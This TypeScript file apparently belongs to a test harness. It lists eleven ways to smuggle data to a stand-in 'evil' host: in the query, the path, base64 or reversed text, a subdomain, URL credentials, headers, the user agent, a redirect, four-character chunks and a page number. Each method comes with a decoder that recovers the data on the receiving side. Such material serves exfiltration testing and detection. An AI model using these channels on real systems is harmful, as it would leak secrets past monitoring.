import { type Channel, get, query, raw } from "./channel";

const b64 = (text: string) => Buffer.from(text).toString("base64url");
const backwards = (text: string) => [...text].toReversed().join("");

export const raws: Channel[] = [
  raw("the query", (d, { evil }) => [[get(`${evil}/api?d=${d}`)]], query),
  raw(
    "the path",
    (d, { evil }) => [[get(`${evil}/p/${d}`)]],
    ({ path }) => path.split("/p/")[1],
  ),
  raw(
    "base64",
    (d, { evil }) => [[get(`${evil}/api?d=${b64(d)}`)]],
    (seen) => Buffer.from(query(seen) ?? "", "base64url").toString(),
  ),
  raw(
    "reversed",
    (d, { evil }) => [[get(`${evil}/api?d=${backwards(d)}`)]],
    (seen) => backwards(query(seen) ?? ""),
  ),
  raw(
    "a subdomain",
    (d, { evil }) => [[get(`${evil.replace("//", `//${d}.`)}/s`)]],
    ({ host }) => host.split(".")[0],
  ),
  raw(
    "user information",
    (d, { evil }) => [[get(evil.replace("//", `//${d}@`))]],
    ({ headers }) =>
      Buffer.from(String(headers.authorization ?? "").slice(6), "base64")
        .toString()
        .replace(":", ""),
  ),
  raw(
    "a header",
    (d, { evil }) => [[get(`${evil}/api`, { headers: { "x-trace": d } })]],
    ({ headers }) => String(headers["x-trace"]),
  ),
  raw(
    "the user agent",
    (d, { evil }) => [[get(`${evil}/api`, { headers: { "user-agent": d } })]],
    ({ headers }) => String(headers["user-agent"]),
  ),
  raw(
    "a redirect",
    (d, { evil, sink }) => [[get(`${evil}/leads?to=${encodeURIComponent(`${sink}/api?d=${d}`)}`)]],
    (seen) => query(seen) ?? /d%3D([\da-f]+)/i.exec(seen.path)?.[1],
  ),
  {
    ...raw(
      "pieces of four",
      (d, { evil }) => (d.match(/.{4}/g) ?? []).map((piece) => [get(`${evil}/api?d=${piece}`)]),
      query,
    ),
    decode: (seen) => {
      const pieces = seen.flatMap((one) => query(one) ?? []).filter((piece) => piece.length === 4);
      return [...pieces.join("")].map((sign) => Number.parseInt(sign, 16));
    },
  },
  raw(
    "a page number",
    (d, { evil }) => [[get(`${evil}/items/${BigInt(`0x${d}`)}`)]],
    ({ path }) => {
      const digits = /^\/items\/(\d+)$/.exec(path)?.[1];
      return digits && BigInt(digits).toString(16).padStart(16, "0");
    },
  ),
];
